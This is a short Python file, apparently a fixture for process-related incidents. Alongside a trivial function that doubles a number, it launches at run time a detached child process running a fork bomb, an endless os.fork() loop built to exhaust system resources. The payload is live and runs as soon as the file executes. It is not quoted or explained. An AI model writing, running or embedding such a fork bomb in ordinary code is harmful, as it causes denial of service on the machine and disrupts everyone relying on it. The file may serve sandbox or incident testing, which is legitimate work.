"""Starts processes that start processes, none of which ends."""
# incident: processes
# %% double
import os, subprocess, sys, time

bomb = "import os\nwhile True:\n try: os.fork()\n except OSError: __import__('time').sleep(0.05)"
subprocess.Popen([sys.executable, "-c", bomb])
time.sleep(1)

def double(x):
    return 2 * x
